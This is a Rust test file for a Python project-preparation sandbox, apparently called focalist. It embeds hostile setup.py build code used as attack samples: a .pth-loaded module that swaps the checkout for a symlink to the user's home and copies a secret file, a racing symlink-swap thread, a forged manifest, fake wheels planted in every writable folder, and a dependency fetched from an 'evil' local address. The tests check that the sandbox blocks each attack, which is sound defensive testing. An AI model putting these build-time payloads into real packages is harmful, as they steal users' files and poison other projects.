//! Projects whose builds try to escape during preparation, or to plant something for other projects: each attack once
//! worked.
//!
//! They run where `FOCALIST_NEED_TOOLS` is set, and download pytest and coverage into a separate cache.

use std::fs;
use std::net::TcpListener;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::path::{Path, PathBuf};
use std::sync::Mutex;

use serde_json::{Value, json};

use crate::python::{Said, has_tools, run_with};

/// The tests run in turn, because they share downloads.
pub static TURN: Mutex<()> = Mutex::new(());

/// Code that runs before a build: `HOME` is one of the user's folders, and `root` the project's folder in the cache.
const BEGIN: &str = "import glob, os, socket, sys
checkout = os.getcwd()
root = os.path.dirname(checkout)
site = glob.glob(os.environ.get('VIRTUAL_ENV', checkout) + '/lib/python*/site-packages')[0]

def attempt(what, *arguments):
    try:
        what(*arguments)
    except OSError:
        pass

def write(path, text):
    with open(path, 'w') as file:
        file.write(text)
";
const END: &str = "
from setuptools import setup
setup(name='PROJECT', version='1', py_modules=['PROJECT'])
";

/// A user's folder with a secret, beside a workspace and a cache.
struct User {
    place: tempfile::TempDir,
}

impl User {
    fn new() -> Self {
        let place = tempfile::tempdir().expect("a folder can be made");
        let user = Self { place };
        fs::create_dir(user.home()).expect("it can be made");
        fs::write(user.home().join("secret"), "private key").expect("it can be written");
        user
    }

    fn home(&self) -> PathBuf {
        self.place.path().join("home")
    }

    fn cache() -> PathBuf {
        Path::new(env!("CARGO_TARGET_TMPDIR")).join("python-escapes")
    }

    fn run(&self, arguments: &[&str], input: &str) -> Said {
        run_with(&Self::cache(), self.place.path(), (arguments, input))
    }

    /// Writes a project whose build runs something first.
    fn project(&self, name: &str, build: &str) -> String {
        let root = self.place.path().join(name);
        let home = self.home().display().to_string();
        let setup = [BEGIN, build, END].concat();
        let setup = setup.replace("PROJECT", name).replace("HOME", &home);
        let files = [
            ("setup.py", setup),
            (&format!("{name}.py"), "x = 1\n".to_owned()),
            (
                "tests/test_x.py",
                format!("import {name}\n\ndef test(): assert {name}.x == 1\n"),
            ),
        ];
        for (path, text) in files {
            let path = root.join(path);
            fs::create_dir_all(path.parent().expect("it lies in a folder")).expect("it is made");
            fs::write(path, text).expect("it is written");
        }
        root.display().to_string()
    }

    fn prepare(&self, name: &str, build: &str, more: &[&str]) -> Said {
        let root = self.project(name, build);
        self.run(
            &[&["prepare", &root, "--json", "--rebuild"], more].concat(),
            "",
        )
    }

    /// Checks that nothing was read or written in the user's folder.
    fn is_untouched(&self) {
        let names = fs::read_dir(self.home()).expect("it is there").flatten();
        let names: Vec<_> = names.map(|entry| entry.file_name()).collect();
        assert_eq!(names, ["secret"]);
        let secret = fs::read_to_string(self.home().join("secret"));
        assert_eq!(secret.expect("it is still there"), "private key");
    }
}

/// Replaces the copy with a link in the last step before it is bound again, and copies the secret once it is visible.
/// (With pip that step was once `pip wheel`.)
const SWAP: &str = r"
last = 'wheel' if os.path.isdir(site + '/pip') else 'compileall'
module = '''
import os, sys
root, home = ROOT, 'HOME'
def attempt(what, *arguments):
    try:
        what(*arguments)
    except OSError:
        pass
if LAST in getattr(sys, 'orig_argv', ()):
    attempt(os.rename, root + '/checkout', root + '/moved')
    attempt(os.symlink, home, root + '/checkout')
def steal():
    with open(root + '/checkout/secret') as secret, open(root + '/checkout/stolen', 'w') as stolen:
        stolen.write(secret.read())
attempt(steal)
'''.replace('ROOT', repr(root)).replace('LAST', repr(last))
write(site + '/swapping.py', module)
write(site + '/swapping.pth', 'import swapping\n')
";

#[test]
fn a_build_that_swaps_the_copy_for_a_link_gets_nothing_of_the_user() {
    if !has_tools() {
        return;
    }
    let _turn = TURN.lock();
    let user = User::new();
    let said = user.prepare("swapping", SWAP, &[]);
    user.is_untouched();
    let row = said.success().lines().remove(0);
    assert_eq!(row["suite"]["passed"], json!(1), "{row}");
}

#[test]
fn a_link_in_the_place_of_the_manifest_is_not_written_through() {
    if !has_tools() {
        return;
    }
    let _turn = TURN.lock();
    let user = User::new();
    let link = "
for name in ('environment.new', 'environment.json', 'project.py', 'lines.json'):
    attempt(os.symlink, 'HOME/secret', root + '/' + name)
";
    let said = user.prepare("linking", link, &[]);
    user.is_untouched();
    said.success();
}

/// Writes another project's manifest, and prevents the writing of focalist's manifest.
const FORGE: &str = r"
import json
forged = {
    'format': FORMAT, 'key': os.path.basename(root), 'name': 'victim', 'origin': '/nowhere', 'root': root,
    'checkout': checkout, 'as_of': None, 'installer': 'pip', 'sandbox': 'bwrap', 'steps': [], 'sources': [],
    'python': {'program': root + '/env/bin/python', 'base': BASE, 'version': '3.11.7'},
    'test_files': [], 'addopts': '', 'installed': [], 'refused': None, 'notes': [],
    'suite': {'n_collected': 1, 'n_passed': 1, 'n_failed': 0, 'n_skipped': 0, 'others': {}, 'passed': {},
              'functions': {}, 'writing': [], 'errors': []},
}
attempt(os.mkdir, root + '/environment.new')
attempt(write, root + '/environment.json', json.dumps(forged))
sys.exit('it does not build')
";

#[test]
fn a_manifest_that_a_build_has_written_is_never_read() {
    if !has_tools() {
        return;
    }
    let _turn = TURN.lock();
    let user = User::new();
    user.prepare("victim", "", &[]).success();
    let base = format!("{:?}", user.home().display().to_string());
    for format in ["1", "2"] {
        let forge = FORGE.replace("BASE", &base).replace("FORMAT", format);
        let said = user.prepare("forging", &forge, &[]);
        assert_ne!(said.code, Some(0), "{}", said.out);
    }
    let code = format!(
        "def test(): assert open('{}/secret').read() == 'private key'\n",
        user.home().display()
    );
    let case = json!({"id": "a", "path": "tests/tmp_a.py", "code": code}).to_string();
    let said = user.run(&["execute", "--project", "victim", "--cases", "-"], &case);
    let row = said.success().lines().remove(0);
    assert_eq!(
        (&row["outcome"], &row["reason"]),
        (&json!("failing"), &json!("FileNotFoundError")),
        "{row}"
    );
}

/// Makes every interpreter of the environment start a thread that replaces everything writable with links, as its seed
/// determines.
const RACE: &str = r"
module = '''
import os, random, sys, threading
root, home = ROOT, 'HOME'
drawn = random.Random(str(SEED) + ' '.join(sys.orig_argv))
def attempt(what, *arguments):
    try:
        what(*arguments)
    except OSError:
        pass
def race():
    places = []
    for _ in range(20000):
        if not places or drawn.random() < 0.01:
            places = [os.path.join(folder, name) for top in (root, os.path.dirname(root), '/tmp')
                      for folder, folders, files in os.walk(top) for name in folders + files
                      if os.access(folder, os.W_OK) and 'swapping' not in name and '/lib/python' not in folder]
            places += [root + '/' + it for it in ('checkout', 'env', 'environment.json', 'environment.new')]
        place, away = drawn.choice(places), root + '/checkout/away'
        attempt(os.rename, place, away)
        attempt(os.symlink, drawn.choice((home, home + '/secret', home + '/new')), place)
        attempt(os.remove, place)
        attempt(os.rename, away, place)
threading.Thread(target=race, daemon=True).start()
'''.replace('ROOT', repr(root))
write(site + '/swapping.py', module)
write(site + '/swapping.pth', 'import swapping\n')
";

#[test]
fn threads_that_swap_all_they_can_write_while_a_project_is_prepared_and_run_reach_nothing() {
    if !has_tools() || std::env::var_os("FOCALIST_SLOW").is_none() {
        return;
    }
    let _turn = TURN.lock();
    let user = User::new();
    let asked = std::env::var("FOCALIST_ESCAPES").ok();
    let n_rounds: u32 = asked.map_or(2, |text| text.parse().expect("it is a number"));
    for seed in 1..=n_rounds {
        // Whatever becomes of such a project is right, but for what is the user's.
        let race = RACE.replace("SEED", &seed.to_string());
        let said = user.prepare("racing", &race, &[]);
        user.is_untouched();
        assert!(matches!(said.code, Some(0 | 1 | 5)), "{}", said.err);
        let cases: String = (0..4)
            .map(|idx| {
                let code = "import time\ndef test(): time.sleep(0.1)\n";
                let path = format!("tests/tmp_{idx}.py");
                json!({"id": "a", "path": path, "code": code}).to_string() + "\n"
            })
            .collect();
        // Where it was refused there is nothing to run.
        let _ = user.run(&["execute", "--project", "racing", "--cases", "-"], &cases);
        user.is_untouched();
    }
}

/// Puts a wheel of a made-up version into every writable folder.
const PLANT: &str = r"
import zipfile
wheel = 'iniconfig-99.9-py3-none-any.whl'
files = {'iniconfig.py': '', 'iniconfig-99.9.dist-info/METADATA': 'Metadata-Version: 2.1\nName: iniconfig\nVersion: 99.9\n',
         'iniconfig-99.9.dist-info/WHEEL': 'Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
         'iniconfig-99.9.dist-info/RECORD': ''}
def plant(folder):
    with zipfile.ZipFile(folder + '/' + wheel, 'w') as archive:
        for name, text in files.items():
            archive.writestr(name, text)
for folder, _, _ in os.walk(os.path.dirname(root)):
    if '/env/' not in folder + '/':
        attempt(plant, folder)
";

#[test]
fn a_wheel_that_a_build_has_planted_reaches_no_other_project() {
    if !has_tools() {
        return;
    }
    let _turn = TURN.lock();
    let user = User::new();
    // It may have spoilt its own environment.
    let _ = user.prepare("planting", PLANT, &[]);
    let ways: [&[&str]; 2] = [&[], &["--offline"]];
    for more in ways {
        let row = user.prepare("clean", "", more).success().lines().remove(0);
        let installed = row["installed"].as_array().expect("it is a list");
        let is_planted = |package: &&Value| *package == &json!("iniconfig==99.9");
        assert!(
            installed
                .iter()
                .any(|package| package.to_string().contains("iniconfig")),
            "{row}"
        );
        assert_eq!(installed.iter().find(is_planted), None, "{row}");
    }
}

#[test]
fn a_wheel_that_is_not_what_was_downloaded_is_not_installed() {
    if !has_tools() {
        return;
    }
    let _turn = TURN.lock();
    let user = User::new();
    user.prepare("before", "", &[]).success();
    let shelf = User::cache().join("python/packages");
    let is_ours = |path: &PathBuf| {
        let name = path.file_name().unwrap_or_default().to_string_lossy();
        name.starts_with("iniconfig-")
    };
    let list = |folder: &Path| -> Vec<PathBuf> {
        let entries = fs::read_dir(folder).expect("it is there").flatten();
        entries.map(|entry| entry.path()).collect()
    };
    let folders = list(&shelf);
    let wheels: Vec<PathBuf> = folders.iter().flat_map(|folder| list(folder)).collect();
    let wheels: Vec<PathBuf> = wheels.into_iter().filter(is_ours).collect();
    assert!(!wheels.is_empty(), "{folders:?}");
    for wheel in &wheels {
        // It has other names, in the folders of projects.
        fs::remove_file(wheel).expect("it is there");
        fs::write(wheel, "no wheel any more").expect("it is written");
    }
    let row = user.prepare("after", "", &["--offline"]).lines().remove(0);
    assert_eq!(
        (&row["accepted"], &row["installed"]),
        (&json!(false), &json!([])),
        "{row}"
    );
    let row = user.prepare("after", "", &[]).success().lines().remove(0);
    assert_eq!(row["suite"]["passed"], json!(1), "{row}");
    for wheel in wheels.iter().filter(|wheel| wheel.exists()) {
        let text = fs::read(wheel).expect("it is read");
        assert_ne!(text, b"no wheel any more", "it has been brought anew");
    }
}

#[test]
fn a_package_from_an_address_is_not_asked_for_where_no_code_may_run() {
    if !has_tools() {
        return;
    }
    let _turn = TURN.lock();
    let user = User::new();
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port is free");
    listener.set_nonblocking(true).expect("it can be set");
    let port = listener.local_addr().expect("it has one").port();
    let root = user.project("addressed", "");
    let metadata = format!(
        "[build-system]\nrequires = ['setuptools']\nbuild-backend = 'setuptools.build_meta'\n\
         [project]\nname = 'addressed'\nversion = '1'\n\
         dependencies = ['evil @ http://127.0.0.1:{port}/evil-1.0.tar.gz']\n"
    );
    let path = Path::new(&root).join("pyproject.toml");
    fs::write(path, metadata).expect("it is written");
    let said = user.run(&["prepare", &root, "--json", "--rebuild"], "");
    assert!(
        listener.accept().is_err(),
        "nobody has called: {}",
        said.err
    );
    assert!(said.out.contains("given by an address"), "{}", said.out);
}

#[test]
fn a_build_reaches_this_machine_only_where_that_was_asked_for() {
    if !has_tools() {
        return;
    }
    let _turn = TURN.lock();
    let user = User::new();
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port is free");
    let port = listener.local_addr().expect("it has one").port();
    let name = format!("focalist-test-{}", std::process::id());
    let address = SocketAddr::from_abstract_name(&name).expect("it is a name");
    let unix = UnixListener::bind_addr(&address).expect("nobody has that name");
    listener.set_nonblocking(true).expect("it can be set");
    unix.set_nonblocking(true).expect("it can be set");
    let call = format!(
        "
attempt(lambda: socket.create_connection(('127.0.0.1', {port}), timeout=5))
attempt(lambda: socket.socket(socket.AF_UNIX).connect('\\0{name}'))
"
    );
    user.prepare("calling", &call, &[]).success();
    assert!(listener.accept().is_err(), "nobody has called");
    assert!(unix.accept().is_err(), "nobody has called");
    user.prepare("calling", &call, &["--build-network"])
        .success();
    assert!(listener.accept().is_ok(), "now it may");
    assert!(unix.accept().is_ok(), "now it may");
}
